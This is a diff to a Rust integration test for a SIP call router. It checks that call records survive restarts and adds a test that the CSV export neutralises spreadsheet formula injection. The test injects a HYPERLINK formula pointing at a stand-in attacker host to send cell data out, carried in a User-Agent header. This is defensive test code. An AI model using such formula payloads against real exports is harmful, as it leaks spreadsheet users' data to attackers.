@@ -1,9 +1,9 @@
 //! Call records: SIPp calls (answered, cancelled, failed over) through the
 //! real binary each leave one correct record in the export, a restart
 //! (SIGTERM, then a start on the same database) between calls loses none,
-//! calls still up at shutdown are written as `interrupted`, and calls up
-//! when the router is killed (SIGKILL) are in the database as `open` and
-//! become `interrupted` after a restart.
+//! calls still up at shutdown are written as `interrupted`, calls up when
+//! the router is killed (SIGKILL) are in the database as `open` and become
+//! `interrupted` after a restart, and no CSV cell can start a formula.
 
 mod adminhttp;
 mod common;
@@ -173,7 +173,9 @@ fn calls_survive_a_restart(db: Db) {
     assert_eq!(rows.len(), 3);
     let outcomes: Vec<&str> = rows.iter().map(|r| &r[col("outcome")]).collect();
     assert_eq!(outcomes, ["answered", "cancelled", "answered"]);
-    assert_eq!(&rows[2][col("caller_number")], CAP);
+    // E.164 numbers begin with `+`: quoted, as every cell that could be
+    // read as a formula.
+    assert_eq!(&rows[2][col("caller_number")], format!("'{CAP}"));
     let attempts: Value = serde_json::from_str(&rows[2][col("attempts")]).unwrap();
     assert_eq!(attempts.as_array().unwrap().len(), 2);
     assert_eq!(
@@ -384,5 +386,62 @@ fn sqlite_records_survive_sigkill() {
 fn postgres_records_survive_sigkill() {
     if let Some(db) = Db::postgres("postgres_records_survive_sigkill") {
         records_survive_sigkill(db);
+    }
+}
+
+/// Spreadsheet formulas a caller may put in what the router records.
+const FORMULA: &str = "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"help\")";
+
+#[test]
+fn csv_cells_never_start_a_formula() {
+    let db = Db::sqlite();
+    let t = tokens();
+    let refuse = RawTrunk::start(Answer::Code(486));
+    let trunks = (refuse.port, refuse.port, refuse.port, refuse.port);
+    let cfg = emergency_config(trunks, &db, &t);
+    let router = Router::start(&cfg, &[]);
+    let api = Api::of(&router);
+    upload(api, &t);
+    Caller::new().invite_with(
+        router.port,
+        "911",
+        CAP,
+        "csv-formula",
+        "-2+3 ",
+        &format!("User-Agent: {FORMULA}\r\n"),
+    );
+    let mut recs = Vec::new();
+    for _ in 0..100 {
+        recs = export(api, &t.operator, "");
+        if recs.len() == 1 && recs[0]["outcome"] != "open" {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    assert_eq!(recs.len(), 1, "{recs:#?}");
+    // The JSON export keeps the values as received.
+    assert_eq!(recs[0]["user_agent"], FORMULA);
+    assert!(recs[0]["from"].as_str().unwrap().starts_with("-2+3 <sip:"));
+
+    let r = api.get("/v1/records?format=csv", &t.operator);
+    assert_eq!(r.status, 200, "{r}");
+    let mut reader = csv::Reader::from_reader(r.body.as_slice());
+    let header = reader.headers().unwrap().clone();
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    assert_eq!(rows.len(), 1);
+    let row = &rows[0];
+    assert_eq!(&row[col("user_agent")], format!("'{FORMULA}"));
+    assert_eq!(
+        &row[col("from")],
+        format!("'{}", recs[0]["from"].as_str().unwrap())
+    );
+    // E.164 numbers begin with `+`: quoted as well.
+    assert_eq!(&row[col("caller_number")], format!("'{CAP}"));
+    for (name, cell) in header.iter().zip(row.iter()) {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{name}: {cell:?}"
+        );
     }
 }
